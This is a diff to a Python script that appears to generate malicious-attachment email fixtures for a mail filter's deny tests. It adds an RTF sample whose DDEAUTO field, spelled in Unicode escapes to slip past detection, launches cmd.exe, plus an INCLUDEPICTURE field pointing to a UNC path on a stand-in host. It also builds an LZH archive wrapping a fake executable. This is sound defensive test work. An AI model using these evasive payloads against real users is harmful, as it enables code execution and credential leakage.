@@ -94,6 +94,15 @@ write("deny", "zip_with_prefix.eml",
 LZH = bytes([40, 0]) + b"-lh0-" + struct.pack("<II", 4, 4) + bytes(6) + bytes([11]) + b"invoice.exe" + b"\x00\x00" + b"MZ\x90\x00" + b"\x00"
 write("deny", "lzh_archive.eml", mail("lzh", "資料.lzh", LZH), dangerous=True)
 
+# RTF whose DDEAUTO and INCLUDEPICTURE are spelled in \\uN escapes.
+def uspell(word, fallback="?"):
+    return "".join(f"\\u{ord(c)}{fallback}" for c in word)
+RTF_U = ("{\\rtf1\\ansi {\\field{\\*\\fldinst \\uc1" + uspell("DDEAUTO") +
+         " c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt 資料}}"
+         "{\\field{\\*\\fldinst \\uc0" + uspell("INCLUDEPICTURE", " ") +
+         " \"\\\\\\\\198.51.100.7\\\\s\\\\a.png\" \\\\d}{\\fldrslt }}}\n")
+write("deny", "rtf_unicode_escaped_fields.eml", mail("rtf", "資料.rtf", RTF_U.encode()), dangerous=True)
+
 # Benign controls: these arrive as they came.
 write("deny", "control_text_with_bracket_heading.eml",
       mail("control text", "お知らせ.txt", "<お知らせ>\n会議は 3 時からです。\n[会議室]\nURL: https://example.lg.jp/\n".encode("utf-8"),
